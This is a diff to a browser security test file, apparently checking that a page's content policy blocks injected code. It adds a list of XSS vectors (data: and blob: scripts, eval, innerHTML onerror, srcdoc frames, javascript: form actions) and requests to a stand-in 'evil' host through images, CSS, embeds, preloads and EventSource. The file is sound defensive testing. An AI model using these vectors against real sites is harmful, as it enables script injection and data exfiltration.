@@ -60,7 +60,90 @@ const attacks: Attack[] = [
     act: (page) => page.evaluate((evil) => fetch(`${evil}/data`, { mode: 'no-cors' }).catch(() => {}), evil),
     hasActed: hasAsked,
   },
+  { name: 'a script in a data: address', html: '<script src="data:,window.hacked=true"></script>', hasActed: hasRun },
+  {
+    name: 'a script in a blob: address',
+    html: '',
+    act: (page) => run(page, "addScript(URL.createObjectURL(new Blob(['window.hacked = true'])))"),
+    hasActed: hasRun,
+  },
+  {
+    name: 'code in a string',
+    html: '',
+    // In a timer, since browsers let whoever debugs a page run strings.
+    act: (page) =>
+      run(page, "new Promise((done) => setTimeout(() => { try { eval('window.hacked = true') } catch {} done() }))"),
+    hasActed: hasRun,
+  },
+  {
+    name: 'markup in a string',
+    html: '',
+    act: (page) =>
+      run(
+        page,
+        'new Promise((done) => { window.done = done; document.body.innerHTML = \'<img src=/none onerror="window.hacked=true;done()">\' })',
+      ),
+    hasActed: hasRun,
+  },
+  { name: 'a module of another host', html: '', act: (page) => run(page, `import('${evil}/x.js')`), hasActed: hasRun },
+  {
+    name: 'a worker in a blob: address',
+    html: '',
+    act: (page) =>
+      run(
+        page,
+        "new Promise((done) => Object.assign(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), { onmessage: () => done(window.hacked = true), onerror: done }))",
+      ),
+    hasActed: hasRun,
+  },
+  {
+    name: 'a frame that holds its own markup',
+    html: '<iframe srcdoc="&lt;script>parent.hacked = true&lt;/script>"></iframe>',
+    hasActed: hasRun,
+  },
+  {
+    name: 'a form that runs code',
+    html: '<form action="javascript:void (window.hacked = true)"><button id="attack"></button></form>',
+    act: press,
+    hasActed: hasRun,
+  },
+  {
+    name: 'a button that sends a form elsewhere',
+    html: `<form method="post"><button id="attack" formaction="${evil}/form"></button></form>`,
+    act: press,
+    hasActed: hasAsked,
+  },
+  { name: 'an object', html: `<object data="${evil}/frame"></object>`, hasActed: hasAsked },
+  { name: 'an embed', html: `<embed src="${evil}/frame">`, hasActed: hasAsked },
+  { name: 'a video', html: `<video src="${evil}/video" autoplay muted></video>`, hasActed: hasAsked },
+  { name: 'the picture of a video', html: `<video poster="${evil}/pixel.png"></video>`, hasActed: hasAsked },
+  { name: 'a picture in an SVG', html: `<svg><image href="${evil}/pixel.png"/></svg>`, hasActed: hasAsked },
+  { name: 'a picture as a button', html: `<input type="image" src="${evil}/pixel.png" alt="">`, hasActed: hasAsked },
+  {
+    name: 'a picture in a style attribute',
+    html: `<p style="background: url(${evil}/pixel.png)">x</p>`,
+    hasActed: hasAsked,
+  },
+  {
+    name: 'a style that reads the page',
+    html: `<style>body { background: url(${evil}/pixel.png) }</style>`,
+    hasActed: hasAsked,
+  },
+  { name: 'something loaded ahead', html: `<link rel="preload" as="image" href="${evil}/x.png">`, hasActed: hasAsked },
+  {
+    name: 'a stream of events',
+    html: '',
+    act: (page) => run(page, `new Promise((done) => { new EventSource('${evil}/data').onerror = done })`),
+    hasActed: hasAsked,
+  },
 ];
+
+/** Runs code in the page, as a script does that got in; what stops it is no error of the test. */
+async function run(page: Page, code: string): Promise<void> {
+  const prepared = `const addScript = (src) => new Promise((done) => document.head.append(
+    Object.assign(document.createElement('script'), { onload: done, onerror: done, src })));`;
+  await page.evaluate(`(async () => { ${prepared} await (${code}); })().catch(() => {})`);
+}
 
 /** Clicks on the attack, and waits until it has run, led to another page, or was stopped. */
 async function press(page: Page): Promise<void> {
